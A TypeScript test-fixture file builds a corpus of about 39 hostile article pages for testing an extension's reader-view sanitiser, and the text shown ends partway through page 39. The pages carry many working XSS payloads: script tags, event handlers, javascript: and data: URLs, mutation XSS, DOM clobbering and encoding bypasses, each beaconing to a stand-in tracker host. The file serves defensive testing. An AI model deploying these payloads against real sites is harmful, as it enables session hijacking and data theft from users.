import { PROSE } from './prose.ts';

// The XSS corpus: hostile article pages, each a real article (PROSE) with payloads of one family
// placed between its paragraphs and in its metadata. `write-hostile-pages.ts` writes them to
// e2e/pages/hostile/; security.spec.ts checks the files match and runs them through Sift.
//
// Every payload carries its own id (h07c = page 7, payload c). A payload that runs would:
//   fetch http://tracker.sift.test/x/<id> (an image: the extension CSP allows http images),
//   log "XSS-MARKER:<id>", set window.__siftXss and open an alert.
// A payload that only tracks fetches http://tracker.sift.test/t/<id>.
// tracker.sift.test is mapped to a recording server (e2e/support/recorder.ts).
// Image sources (<img src>, og:image, JSON-LD image) always point at the page's own server:
// article images are content and load, as in every reader view. Only the vectors that are not
// content (srcset, style, iframes, prefetch, meta refresh...) point at the tracker.

export const TRACKER = 'http://tracker.sift.test';
export const T = (id: string): string => `${TRACKER}/t/${id}`;
export const JS = (id: string): string =>
  `document.createElement('img').src='${TRACKER}/x/${id}';console.log('XSS-MARKER:${id}');window.__siftXss='${id}';alert('${id}')`;
/** The same without quotes or spaces, for unquoted attributes and URL tricks. */
export const JSQ = (id: string): string => `alert(/${id}/.source);window.__siftXss=/${id}/.source`;

const dec = (s: string): string => [...s].map((c) => `&#${c.codePointAt(0)};`).join('');
const decPad = (s: string): string => [...s].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');
const hex = (s: string): string => [...s].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');
const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export interface HostilePage {
  slug: string;
  /** What the page attacks, for the report. */
  family: string;
  prose: number;
  /** Raw HTML for <title> (RCDATA: markup in it is text). Defaults to the prose title. */
  title?: string;
  head?: string[];
  /** Raw HTML inside <h1>. */
  h1?: string;
  /** Raw HTML of the byline. */
  byline?: string;
  /** Raw attribute value (already escaped as needed) and caption HTML of the lead figure. */
  alt?: string;
  caption?: string;
  /** No images on the page (a <base> would move them to the attacker). */
  noImages?: boolean;
  /** Payloads, one after each paragraph in turn (more than paragraphs: several per gap). */
  body: string[];
  /** Raw HTML after the article (tag lists, footers). */
  aside?: string[];
  htmlAttrs?: string;
}

const p = (n: number) => (c: string) => `h${String(n).padStart(2, '0')}${c}`;

function pages(): HostilePage[] {
  const list: HostilePage[] = [];
  const add = (n: number, make: (id: (c: string) => string) => HostilePage) => list.push(make(p(n)));

  add(1, (id) => ({
    slug: 'script-elements', family: 'script elements', prose: 0,
    body: [
      `<script>${JS(id('a'))}</script>`,
      `<SCRIPT SRC="${T(id('b'))}.js"></SCRIPT>`,
      `<script type="module">${JS(id('c'))}</script>`,
      `<scr<script>ipt>${JS(id('d'))}</scr</script>ipt>`,
      `<p>Before<script>/*<!--*/${JS(id('e'))}//--></script>after.</p>`,
      `<script type="text/javascript" defer async src="data:text/javascript,${encodeURIComponent(JS(id('f')))}"></script>`,
    ],
  }));

  add(2, (id) => ({
    slug: 'img-onerror', family: 'image event handlers', prose: 1,
    body: [
      `<p><img src="x" onerror="${JS(id('a'))}"></p>`,
      `<p><IMG SRC=/ ONERROR="${JS(id('b'))}"></p>`,
      `<p><img src onerror=${JSQ(id('c'))}></p>`,
      `<p><img/src/onerror=${JSQ(id('d'))}></p>`,
      `<p><img src="img/photo.png" onload="${JS(id('e'))}" alt="A real photo with an onload handler"></p>`,
      `<p><img src=\`x\`onerror="${JS(id('f'))}"></p>`,
    ],
  }));

  add(3, (id) => ({
    slug: 'event-handlers', family: 'event handler attributes', prose: 2,
    body: [
      `<p onclick="${JS(id('a'))}" onmouseover="${JS(id('b'))}">Hover over this paragraph for more about the dome.</p>`,
      `<details open ontoggle="${JS(id('c'))}"><summary>Repair notes</summary><p>Each section was pinned by hand.</p></details>`,
      `<div onpointerenter="${JS(id('d'))}" onanimationstart="${JS(id('e'))}"><p>Plaster samples were tested in the workshop.</p></div>`,
      `<a href="https://example.org/dome" onfocus="${JS(id('f'))}" autofocus tabindex="1">Read the full report</a>`,
      `<body onload="${JS(id('g'))}" onpageshow="${JS(id('h'))}"><p>Nested body.</p></body>`,
      `<p><span onbeforecopy="${JS(id('i'))}" oncopy="${JS(id('j'))}">Copy this sentence.</span></p>`,
    ],
  }));

  add(4, (id) => ({
    slug: 'javascript-url-case', family: 'javascript: URLs in mixed case', prose: 3,
    body: [
      `<p><a href="JaVaScRiPt:${JS(id('a'))}">See the volunteer map</a></p>`,
      `<p><a href="JAVASCRIPT:${JS(id('b'))}">Download the spreadsheet</a></p>`,
      `<p><a href="javascript:${JS(id('c'))}">Join the group</a></p>`,
      `<p><a href="jAvAsCrIpT://%0a${encodeURIComponent(JS(id('d')))}">River authority notice</a></p>`,
      `<p><a HREF="Javascript:void(0)" onclick="${JS(id('e'))}">Subscribe</a></p>`,
    ],
  }));

  add(5, (id) => ({
    slug: 'javascript-url-whitespace', family: 'javascript: URLs with whitespace and control characters', prose: 4,
    body: [
      `<p><a href=" javascript:${JS(id('a'))}">Leading space</a></p>`,
      `<p><a href="java\tscript:${JS(id('b'))}">Tab inside the scheme</a></p>`,
      `<p><a href="java&#x09;script:${JS(id('c'))}">Encoded tab</a></p>`,
      `<p><a href="java&#10;script:${JS(id('d'))}">Encoded newline</a></p>`,
      `<p><a href="&#x01;&#x02;javascript:${JS(id('e'))}">Control characters first</a></p>`,
      `<p><a href="javascript&colon;${JS(id('f'))}">Named colon entity</a></p>`,
      `<p><a href="\u00a0javascript:${JS(id('g'))}">No-break space</a></p>`,
      `<p><a href="java\u0000script:${JS(id('h'))}">NUL inside</a></p>`,
    ],
  }));

  add(6, (id) => ({
    slug: 'javascript-url-entities', family: 'javascript: URLs written with character references', prose: 5,
    body: [
      `<p><a href="${dec('javascript:')}${JS(id('a'))}">Decimal references</a></p>`,
      `<p><a href="${hex('javascript:')}${JS(id('b'))}">Hex references</a></p>`,
      `<p><a href="${decPad('javascript:')}${JS(id('c'))}">Zero-padded, no semicolons</a></p>`,
      `<p><a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${JSQ(id('d'))}">No semicolons</a></p>`,
      `<p><img src="img/photo.png" alt="logbook" longdesc="${hex('javascript:')}${JS(id('e'))}"></p>`,
      `<p><a href="&amp;#106;avascript:${JS(id('f'))}">Double-encoded</a></p>`,
    ],
  }));

  add(7, (id) => ({
    slug: 'data-urls', family: 'data: URLs', prose: 0,
    body: [
      `<p><a href="data:text/html;base64,${Buffer.from(`<script>${JS(id('a'))}</script>`).toString('base64')}">Timetable (HTML)</a></p>`,
      `<p><a href="DATA:text/html,&lt;script&gt;${JS(id('b'))}&lt;/script&gt;">Timetable in capitals</a></p>`,
      `<iframe src="data:text/html,<script>${JS(id('c'))}</script>"></iframe>`,
      `<object data="data:text/html;base64,${Buffer.from(`<script>${JS(id('d'))}</script>`).toString('base64')}"></object>`,
      `<p><img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${JSQ(id('e'))}'/&gt;" alt="inline svg"></p>`,
      `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS(id('f'))}"/>`).toString('base64')}">`,
      `<p><a href=" data:text/html,<img src=x onerror=${JSQ(id('g'))}>">Spaced data link</a></p>`,
    ],
  }));

  add(8, (id) => ({
    slug: 'vbscript-urls', family: 'vbscript: URLs', prose: 1,
    body: [
      `<p><a href="vbscript:msgbox(&quot;${id('a')}&quot;)">Hive diary</a></p>`,
      `<p><a href="VBScript:Execute(&quot;${id('b')}&quot;)">Winter checklist</a></p>`,
      `<p><a href=" vbscript&#58;msgbox(1)" title="${id('c')}">Association courses</a></p>`,
      `<p><img src="img/photo.png" alt="hive" lowsrc="vbscript:msgbox(&quot;${id('d')}&quot;)" dynsrc="${T(id('e'))}"></p>`,
      `<p><a href="livescript:${JS(id('f'))}">Old scheme</a> and <a href="mocha:${JS(id('g'))}">older scheme</a>.</p>`,
    ],
  }));

  add(9, (id) => ({
    slug: 'svg-vectors', family: 'svg vectors', prose: 2,
    body: [
      `<svg onload="${JS(id('a'))}"><circle r="4"/></svg>`,
      `<svg><script>${JS(id('b'))}</script></svg>`,
      `<svg><a xlink:href="javascript:${JS(id('c'))}"><text x="10" y="20">Plan of the dome</text></a></svg>`,
      `<svg><animate onbegin="${JS(id('d'))}" attributeName="x" dur="1s"/></svg>`,
      `<svg><a><set attributeName="href" to="javascript:${JS(id('e'))}"/><text y="20">Click</text></a></svg>`,
      `<svg><foreignObject><iframe src="${T(id('f'))}"></iframe><img src=x onerror="${JS(id('g'))}"></foreignObject></svg>`,
      `<svg><image href="${T(id('h'))}" width="10" height="10"/><use href="${T(id('i'))}#x"/></svg>`,
      `<svg><style>@import url(${T(id('j'))});</style><feImage href="${T(id('k'))}"/></svg>`,
    ],
  }));

  add(10, (id) => ({
    slug: 'math-vectors', family: 'MathML vectors', prose: 3,
    body: [
      `<math><mtext><table><mglyph><style><img src=x onerror="${JS(id('a'))}"></style></mglyph></table></mtext></math>`,
      `<math href="javascript:${JS(id('b'))}"><mi>x</mi></math>`,
      `<math><maction actiontype="statusline" xlink:href="javascript:${JS(id('c'))}"><mtext>tonnes</mtext></maction></math>`,
      `<math><mi xlink:href="data:x,<script>${JS(id('d'))}</script>">y</mi></math>`,
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${JS(id('e'))}"></annotation-xml></math>`,
    ],
  }));

  add(11, (id) => ({
    slug: 'meta-refresh', family: 'meta refresh', prose: 4,
    head: [`<meta http-equiv="refresh" content="30;url=${T(id('a'))}">`],
    body: [
      `<meta http-equiv="refresh" content="0;url=${T(id('b'))}">`,
      `<meta http-equiv="Refresh" content="0; URL=javascript:${JS(id('c'))}">`,
      `<p>The starter <meta http-equiv="refresh" content="1;url=${T(id('d'))}"> is fed twice a day.</p>`,
      `<meta http-equiv="set-cookie" content="sift=${id('e')}"><meta http-equiv="content-security-policy" content="script-src 'unsafe-inline'">`,
    ],
  }));

  add(12, (id) => ({
    slug: 'base-href', family: 'base href', prose: 5, noImages: true,
    head: [`<base href="${TRACKER}/base/${id('a')}/">`],
    body: [
      `<base href="javascript:${JSQ(id('b'))}//">`,
      `<p><a href="logbooks/1893.html">Read the 1893 log</a> and <a href="../volunteer">volunteer</a>.</p>`,
      `<base href="${TRACKER}/base2/${id('c')}/" target="_top">`,
      `<p><a href="scans/page-42.jpg">Scan of page 42</a></p>`,
    ],
  }));

  add(13, (id) => ({
    slug: 'srcset-tracking', family: 'srcset, picture and sizes tracking', prose: 0,
    body: [
      `<p><img src="img/photo.png" srcset="${T(id('a'))} 2x, ${T(id('b'))} 800w" sizes="100vw" alt="Tram at dawn"></p>`,
      `<picture><source srcset="${T(id('c'))}" media="(min-width: 1px)"><source type="image/webp" srcset="${T(id('d'))}"><img src="img/photo.png" alt="Depot"></picture>`,
      `<p><img src="img/photo.png" data-srcset="${T(id('e'))} 2x" alt="Lazy srcset"></p>`,
      `<p><img src="img/photo.png" imagesrcset="${T(id('f'))} 2x" alt="imagesrcset"></p>`,
    ],
  }));

  add(14, (id) => ({
    slug: 'style-tracking', family: 'style, CSS url() and link tracking', prose: 1,
    head: [`<link rel="stylesheet" href="${T(id('a'))}.css">`, `<style>@import url("${T(id('b'))}.css");</style>`],
    body: [
      `<style>body{background:url(${T(id('c'))})}@font-face{font-family:x;src:url(${T(id('d'))})}</style>`,
      `<p style="background:url(${T(id('e'))})">Bees cluster around the queen.</p>`,
      `<div style="background-image:image-set('${T(id('f'))}' 1x)"><p>Winter stores.</p></div>`,
      `<p style="list-style:url(${T(id('g'))});border-image:url(${T(id('h'))}) 30">A styled paragraph.</p>`,
      `<link rel="stylesheet" href="${T(id('i'))}.css"><p>Body link element.</p>`,
      `<p style="behavior:url(${T(id('j'))});-moz-binding:url(${T(id('k'))})">Old browser bindings.</p>`,
    ],
  }));

  add(15, (id) => ({
    slug: 'iframe-tracking', family: 'iframe, frame, object and embed', prose: 2,
    body: [
      `<iframe src="${T(id('a'))}" width="600" height="400"></iframe>`,
      `<iframe srcdoc="<script>${esc(JS(id('b')))}</script>"></iframe>`,
      `<frameset><frame src="${T(id('c'))}"></frameset>`,
      `<object data="${T(id('d'))}" type="text/html"><param name="src" value="${T(id('e'))}"></object>`,
      `<embed src="${T(id('f'))}" type="image/svg+xml">`,
      `<portal src="${T(id('g'))}"></portal><fencedframe src="${T(id('h'))}"></fencedframe>`,
      `<iframe src="javascript:parent.${JSQ(id('i'))}"></iframe>`,
    ],
  }));

  add(16, (id) => ({
    slug: 'fetching-attributes', family: 'background, poster, ping, prefetch, input image', prose: 3,
    head: [`<link rel="prefetch" href="${T(id('a'))}">`, `<link rel="preload" as="image" href="${T(id('b'))}">`],
    body: [
      `<table background="${T(id('c'))}"><tr><td background="${T(id('d'))}">Bottles</td><td>52%</td></tr><tr><td>Packaging</td><td>31%</td></tr></table>`,
      `<video poster="${T(id('e'))}" src="${T(id('f'))}" autoplay muted></video>`,
      `<p><a href="https://example.org/otters" ping="${T(id('g'))}">Photographs of the otters</a></p>`,
      `<input type="image" src="${T(id('h'))}" alt="Submit">`,
      `<audio src="${T(id('i'))}" autoplay></audio><video><track src="${T(id('j'))}" default></video>`,
      `<p><img src="img/photo.png" attributionsrc="${T(id('k'))}" alt="Volunteers at work"></p>`,
      `<link rel="prefetch" href="${T(id('l'))}"><link rel="modulepreload" href="${T(id('m'))}"><link rel="icon" href="${T(id('n'))}">`,
    ],
  }));

  add(17, (id) => ({
    slug: 'form-actions', family: 'form actions', prose: 4,
    body: [
      `<form action="${T(id('a'))}" method="post"><input name="q" value="starter"><button>Order bread</button></form>`,
      `<form action="javascript:${JS(id('b'))}"><input type="submit" value="Reserve a loaf"></form>`,
      `<form><button formaction="javascript:${JS(id('c'))}">Pay</button><input type="image" formaction="${T(id('d'))}" src="img/photo.png"></form>`,
      `<isindex action="javascript:${JS(id('e'))}" type="image">`,
      `<form id="f-${id('f')}"></form><button form="f-${id('f')}" formaction="${T(id('f'))}">Outside button</button>`,
    ],
  }));

  add(18, (id) => ({
    slug: 'dangling-markup', family: 'dangling markup', prose: 5,
    body: [
      // An image is content (it loads); what it swallows must not turn into anything else.
      `<p>Start <img src='img/photo.png?${id('a')}=` ,
      `leak=</p><p>The keepers recorded the wind.</p><p>'>end</p>`,
      `<p><a href="${T(id('b'))}?q=`,
      `">Keeper's note</a></p>`,
      `<p><textarea>`,
      `</textarea><meta http-equiv="refresh" content='0;url=${T(id('c'))}?`,
      `'></p><p>Visibility was poor all night.</p>`,
    ],
  }));

  add(19, (id) => ({
    slug: 'mutation-xss', family: 'mutation XSS', prose: 0,
    body: [
      `<svg></p><style><a id="</style><img src=1 onerror=${JSQ(id('a'))}>">`,
      `<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${JSQ(id('b'))} src=1>"></textarea></mtext></svg></mglyph></mi></table></mi></math>`,
      `<noscript><p title="</noscript><img src=x onerror=${JSQ(id('c'))}>"></noscript>`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JSQ(id('d'))}>`,
      `<xmp><p title="</xmp><img src=x onerror=${JSQ(id('e'))}>"></xmp>`,
      `<noembed><img title="</noembed><img src onerror=${JSQ(id('f'))}>"></noembed>`,
      `<listing>&lt;img src=x onerror=${JSQ(id('g'))}&gt;</listing>`,
      `<template><img src=x onerror="${JS(id('h'))}"></template><div><template shadowrootmode="open"><img src=x onerror="${JS(id('i'))}"></template></div>`,
    ],
  }));

  add(20, (id) => ({
    slug: 'dom-clobbering', family: 'DOM clobbering', prose: 1,
    body: [
      `<img name="getElementById" src="img/photo.png" alt="clobber getElementById ${id('a')}">`,
      `<form id="document"><input name="cookie" value="${id('b')}"></form><form name="body"></form>`,
      `<a id="__siftContent" href="javascript:${JS(id('c'))}">clobber</a><a id="__siftContent" name="extract" href="${T(id('d'))}">twice</a>`,
      `<img name="createElement" src="img/photo.png" alt="${id('e')}"><form name="querySelectorAll"></form><img name="getElementsByTagName" src="img/photo.png" alt="${id('f')}">`,
      `<a id="location" href="${T(id('g'))}">location</a><a id="defaultView" name="defaultView" href="javascript:${JS(id('h'))}">dv</a>`,
      `<iframe name="__siftXss" src="${T(id('i'))}"></iframe><embed name="chrome" src="${T(id('j'))}">`,
    ],
  }));

  add(21, (id) => ({
    slug: 'payload-in-title', family: 'payloads in the title', prose: 2,
    title: `"><img src=x onerror="${JS(id('a'))}"> The reading room <script>${JS(id('b'))}</script>`,
    head: [
      `<meta property="og:title" content="<svg onload=&quot;${JS(id('c'))}&quot;> Restoring the reading room">`,
      `<meta name="twitter:title" content="</title><script>${esc(JS(id('d')))}</script>">`,
    ],
    h1: `Restoring &lt;img src=x onerror="${esc(JS(id('e')))}"&gt; the reading room`,
    body: [`<h2>Inside &lt;script&gt;${esc(JS(id('f')))}&lt;/script&gt; the dome</h2>`],
  }));

  add(22, (id) => ({
    slug: 'payload-in-byline', family: 'payloads in the byline and author metadata', prose: 3,
    head: [
      `<meta name="author" content="<img src=x onerror=&quot;${JS(id('a'))}&quot;>">`,
      `<meta property="article:author" content="javascript:${JS(id('b'))}">`,
      `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', '@type': 'NewsArticle', headline: 'Volunteers pull a tonne of rubbish from the river', author: { '@type': 'Person', name: `<script>${JS(id('c'))}</script>` } }).replace(/</g, '\\u003c')}</script>`,
    ],
    byline: `<span class="byline">By <a rel="author" href="javascript:${JS(id('d'))}">Tomás &lt;b onmouseover="${esc(JS(id('e')))}"&gt;Álvarez</a></span>`,
    body: [],
  }));

  add(23, (id) => ({
    slug: 'payload-in-caption', family: 'payloads in captions and lead image metadata', prose: 4,
    head: [
      `<meta property="og:image" content="javascript:${JS(id('a'))}">`,
      `<meta property="og:image:alt" content="&quot; onerror=&quot;${esc(JS(id('b')))}">`,
      `<meta name="twitter:image" content="img/photo.png?${id('c')}&quot; onerror=&quot;${esc(JS(id('d')))}">`,
    ],
    caption: `&lt;img src=x onerror="${esc(JS(id('e')))}"&gt; The starter <img src=x onerror="${JS(id('f'))}"> jar`,
    body: [
      `<figure><img src="img/photo.png" alt="Loaves"><figcaption>Loaves <svg onload="${JS(id('g'))}"></svg> cooling &lt;/figcaption&gt;&lt;script&gt;${esc(JS(id('h')))}&lt;/script&gt;</figcaption></figure>`,
    ],
  }));

  add(24, (id) => ({
    slug: 'payload-in-alt', family: 'payloads in alt and title attributes', prose: 5,
    alt: `&quot;&gt;&lt;img src=x onerror=&quot;${esc(JS(id('a')))}&quot;&gt;`,
    body: [
      `<p><img src="img/photo.png" alt='"><script>${JS(id('b'))}</script>'></p>`,
      `<p><img src="img/photo.png" alt="x" title='" onmouseover="${JS(id('c'))}'></p>`,
      `<p><abbr title="</abbr><img src=x onerror=${JSQ(id('d'))}>">NLB</abbr> stands for the Northern Lighthouse Board.</p>`,
      `<p><img src="img/photo.png" alt="\`\${${JSQ(id('e'))}}\`"></p>`,
    ],
  }));

  add(25, (id) => ({
    slug: 'payload-in-entity-names', family: 'payloads as entity names (tag links, keywords, JSON-LD)', prose: 0,
    head: [
      `<meta name="keywords" content="<svg onload=alert('${id('a')}')>, Lisbon, <img src=x onerror=alert(1)>">`,
      `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', '@type': 'NewsArticle', keywords: [`"><script>alert('${id('b')}')</script>`, 'Carris'], about: [{ '@type': 'Person', name: `<b onclick=alert('${id('c')}')>x</b>` }], mentions: [{ '@type': 'Place', name: `javascript:alert('${id('d')}')` }] }).replace(/</g, '\\u003c')}</script>`,
    ],
    body: [
      `<p>Readers tagged this story &lt;svg onload=alert('${id('a')}')&gt; and &lt;img src=x onerror=alert(1)&gt; in the comments.</p>`,
      `<p>Other tags: "&gt;&lt;script&gt;alert('${id('b')}')&lt;/script&gt;, &lt;/mark&gt;&lt;b onclick=alert('${id('e')}')&gt;, __proto__ and constructor.</p>`,
      `<p>Odd names: .*+?^\${}()|[]\\ and (a+)+$ and "]{}*{color:red} and {{constructor.constructor('alert(1)')()}}.</p>`,
    ],
    aside: [
      `<aside class="tags"><h3>Tags</h3><ul>
<li><a href="/tag/svg" rel="tag">&lt;svg onload=alert('${id('a')}')&gt;</a></li>
<li><a href="/tag/img">&lt;img src=x onerror=alert(1)&gt;</a></li>
<li><a href="/tags/script">"&gt;&lt;script&gt;alert('${id('b')}')&lt;/script&gt;</a></li>
<li><a href="/tag/mark">&lt;/mark&gt;&lt;b onclick=alert('${id('e')}')&gt;</a></li>
<li><a href="/tag/proto">__proto__</a></li>
<li><a href="/tag/constructor">constructor</a></li>
<li><a href="/tag/regex">.*+?^\${}()|[]\\</a></li>
<li><a href="/tag/redos">(a+)+$</a></li>
<li><a href="/tag/css">"]{}*{color:red}</a></li>
<li><a href="/tag/tpl">{{constructor.constructor('alert(1)')()}}</a></li>
<li><a href="/tag/lisbon">Lisbon</a></li>
</ul></aside>`,
    ],
  }));

  add(26, (id) => ({
    slug: 'payload-in-site-and-urls', family: 'payloads in site name, canonical and source URLs', prose: 1,
    head: [
      `<meta property="og:site_name" content="<img src=x onerror=&quot;${JS(id('a'))}&quot;>">`,
      `<link rel="canonical" href="javascript:${JS(id('b'))}">`,
      `<meta property="og:url" content="javascript:${JS(id('c'))}">`,
      `<meta name="application-name" content="</title><svg onload=${JSQ(id('d'))}>">`,
    ],
    body: [`<p>原文地址：<a href="javascript:${JS(id('e'))}">javascript:${esc(JS(id('e')))}</a></p>`],
  }));

  add(27, (id) => ({
    slug: 'payload-in-lang-and-dates', family: 'payloads in lang, dir and dates', prose: 2,
    htmlAttrs: `lang='en"><img src=x onerror="${esc(JS(id('a')))}">' dir="rtl&quot; onclick=&quot;${esc(JS(id('b')))}"`,
    head: [
      `<meta property="article:published_time" content="<img src=x onerror=&quot;${JS(id('c'))}&quot;>">`,
      `<meta http-equiv="content-language" content="'><script>${esc(JS(id('d')))}</script>">`,
    ],
    body: [`<p><time datetime="2024-01-01&quot; onmouseover=&quot;${esc(JS(id('e')))}">1 January</time> was the reopening.</p>`],
  }));

  add(28, (id) => ({
    slug: 'unicode-tricks', family: 'Unicode look-alikes and invisible characters', prose: 3,
    body: [
      `<p><a href="ｊａｖａｓｃｒｉｐｔ：${JS(id('a'))}">Fullwidth scheme</a></p>`,
      `<p><a href="java\u200bscript:${JS(id('b'))}">Zero-width space</a></p>`,
      `<p><a href="javascript\u2028:${JS(id('c'))}">Line separator</a></p>`,
      `<p><a href="https://example.org/\u202egpj.exe">Right-to-left override in a link</a></p>`,
      `<p><a href="\ufeffjavascript:${JS(id('d'))}">Byte order mark</a></p>`,
      `<p><a href="javas\u00adcript:${JS(id('e'))}">Soft hyphen</a></p>`,
    ],
  }));

  add(29, (id) => ({
    slug: 'attribute-breakout', family: 'attribute break-outs', prose: 4,
    body: [
      `<p><a href="https://example.org/" title='x" onmouseover="${JS(id('a'))}'>Bakery hours</a></p>`,
      `<p><img src="img/photo.png" alt="x" onerror="${JS(id('b'))}"/></p>`,
      `<p><a/onclick="${JS(id('c'))}">Slash instead of a space</a></p>`,
      `<p><img """><script>${JS(id('d'))}</script>"></p>`,
      `<p><a href="https://example.org/" id=x tabindex=1 onfocus=${JSQ(id('e'))} autofocus>autofocus</a></p>`,
      `<p><div title="&#34; onclick=&#34;${esc(JS(id('f')))}">quote references</div></p>`,
    ],
  }));

  add(30, (id) => ({
    slug: 'comments-and-cdata', family: 'comments, CDATA and processing instructions', prose: 5,
    body: [
      `<!--><img src=x onerror="${JS(id('a'))}">-->`,
      `<![CDATA[><img src=x onerror="${JS(id('b'))}">]]>`,
      `<?xml version="1.0"?><?xml-stylesheet href="${T(id('c'))}"?>`,
      `<!--[if gte IE 4]><script>${JS(id('d'))}</script><![endif]-->`,
      `<p>Comment <!-- --!><img src=x onerror="${JS(id('e'))}"> --> inside.</p>`,
      `<!--<img src="--><img src=x onerror=${JSQ(id('f'))}//">`,
    ],
  }));

  add(31, (id) => ({
    slug: 'custom-elements', family: 'custom elements, is=, slots and shadow roots', prose: 0,
    body: [
      `<x-evil onclick="${JS(id('a'))}"><p>The depot at Santo Amaro.</p></x-evil>`,
      `<p is="x-evil" onmouseenter="${JS(id('b'))}">A customised paragraph.</p>`,
      `<slot name="x" onslotchange="${JS(id('c'))}"></slot><dialog open onclose="${JS(id('d'))}"><p>dialog</p></dialog>`,
      `<div popover id="pp" onbeforetoggle="${JS(id('e'))}">popover</div><button popovertarget="pp">open</button>`,
      `<ok href="/tag/lisbon" onclick="${JS(id('f'))}">Lisbon</ok>`,
    ],
  }));

  add(32, (id) => ({
    slug: 'link-targets', family: 'link targets and openers', prose: 1,
    body: [
      `<p><a href="https://example.org/hives" target="_top">Top target</a> <a href="https://example.org/" target="_self" rel="opener">Self with opener</a></p>`,
      `<p><a href="https://example.org/" target="_parent" referrerpolicy="unsafe-url">Parent</a></p>`,
      `<p><a href="#top" onclick="${JS(id('a'))}">Fragment link</a> <a href="?page=2">Relative query</a> <a href="//${TRACKER.slice(7)}/t/${id('b')}">Protocol-relative</a></p>`,
      `<p><a href="https://example.org/file.exe" download="hive.exe">Download</a> <a href="${T(id('c'))}" download>Tracker download</a></p>`,
      `<p><a href="https://user:pass@example.org/">Credentials in URL</a> <a href="https://example.org/\\@${TRACKER.slice(7)}">Backslash trick</a></p>`,
    ],
  }));

  add(33, (id) => ({
    slug: 'object-embed-applet', family: 'object, embed, applet and plugins', prose: 2,
    body: [
      `<object data="javascript:${JS(id('a'))}"></object>`,
      `<embed src="javascript:${JS(id('b'))}">`,
      `<applet code="Evil.class" codebase="${T(id('c'))}"></applet>`,
      `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" value="${T(id('d'))}"></object>`,
      `<object type="application/x-shockwave-flash" data="${T(id('e'))}.swf"><param name="allowScriptAccess" value="always"></object>`,
    ],
  }));

  add(34, (id) => ({
    slug: 'css-expressions', family: 'CSS expressions and script in style', prose: 3,
    body: [
      `<div style="width:expression(${JSQ(id('a'))})"><p>expression()</p></div>`,
      `<p style="x:expr/**/ession(${JSQ(id('b'))})">Commented expression.</p>`,
      `<style>*{background:url("javascript:${JS(id('c'))}")}</style>`,
      `<style>li{list-style-image:url("${T(id('d'))}")}</style><ul><li>Bottles</li><li>Trolleys</li></ul>`,
      `<p style="background:url(&#106;avascript:${JSQ(id('e'))})">Encoded url().</p>`,
      `<style>@namespace url(${T(id('f'))});</style>`,
    ],
  }));

  add(35, (id) => ({
    slug: 'html5-handlers', family: 'HTML5 event handlers', prose: 4,
    body: [
      `<input autofocus onfocus="${JS(id('a'))}"><select autofocus onfocus="${JS(id('b'))}"><option>x</option></select>`,
      `<video src="x" onerror="${JS(id('c'))}"></video><audio src="x" onerror="${JS(id('d'))}"></audio>`,
      `<marquee onstart="${JS(id('e'))}">The queue reaches the end of the street.</marquee>`,
      `<p><a onanimationend="${JS(id('f'))}" ontransitionend="${JS(id('g'))}">Animated link</a></p>`,
      `<div onscrollend="${JS(id('h'))}" onwheel="${JS(id('i'))}" oncontentvisibilityautostatechange="${JS(id('j'))}"><p>Scroll here.</p></div>`,
      `<textarea autofocus onfocusin="${JS(id('k'))}">order</textarea>`,
    ],
  }));

  add(36, (id) => ({
    slug: 'encoded-schemes', family: 'percent-encoded, UTF-7 and other encodings', prose: 5,
    body: [
      `<p><a href="%6A%61%76%61%73%63%72%69%70%74:${encodeURIComponent(JS(id('a')))}">Percent-encoded scheme</a></p>`,
      `<p><a href="javascript%3A${encodeURIComponent(JS(id('b')))}">Encoded colon</a></p>`,
      `<p>+ADw-script+AD4-alert('${id('c')}')+ADw-/script+AD4- (UTF-7)</p>`,
      `<p><a href="javascript:eval(atob('${Buffer.from(JS(id('d'))).toString('base64')}'))">Base64 eval</a></p>`,
      `<p><a href="javascript:\\u0061lert('${id('e')}')">Unicode escape in JS</a></p>`,
      `<p><a href="http:javascript:${JS(id('f'))}">Scheme confusion</a> <a href="https:${JS(id('g'))}">https: without slashes</a></p>`,
    ],
  }));

  add(37, (id) => ({
    slug: 'broken-tags', family: 'broken and nested tags', prose: 0,
    body: [
      `<<script>${JS(id('a'))}//<</script>`,
      `<scr\u0000ipt>${JS(id('b'))}</scr\u0000ipt>`,
      `<p><a href="javas<!-- -->cript:${JS(id('c'))}">Comment inside the scheme</a></p>`,
      `<iframe/src="javascript:${JS(id('d'))}">`,
      `<img src="x" onerror="${JS(id('e'))}"<p>Unclosed tag swallowing a paragraph.</p>`,
      `<p>Stray </img src=x onerror="${JS(id('f'))}"> end tag with attributes.</p>`,
    ],
  }));

  add(38, (id) => ({
    slug: 'code-blocks', family: 'markup shown as code and text (exports must keep it text)', prose: 1,
    body: [
      `<pre><code>&lt;script&gt;${esc(JS(id('a')))}&lt;/script&gt;
&lt;img src=x onerror="${esc(JS(id('b')))}"&gt;</code></pre>`,
      `<p>Inline: <code>&lt;svg onload=${esc(JSQ(id('c')))}&gt;</code> and plain text &lt;iframe src=${T(id('d'))}&gt;.</p>`,
      `<p>Markdown look-alikes: [click me](javascript:${esc(JS(id('e')))}) and ![pixel](${T(id('f'))}) and &lt;${T(id('g'))}&gt;.</p>`,
      `<blockquote><p>&lt;/blockquote&gt;&lt;script&gt;${esc(JS(id('h')))}&lt;/script&gt;</p></blockquote>`,
      `<table><tr><th>&lt;th onclick=${esc(JSQ(id('i')))}&gt;</th></tr><tr><td>| pipe | in | cell |</td></tr></table>`,
    ],
  }));

  add(39, (id) => ({
    slug: 'jsonld-metadata', family: 'JSON-LD and metadata payloads', prose: 2,
    head: [
      `<script type="application/ld+json">${JSON.stringify({
        '@context': 'https://schema.org', '@type': 'NewsArticle',
        headline: `<img src=x onerror="${JS(id('a'))}">`,
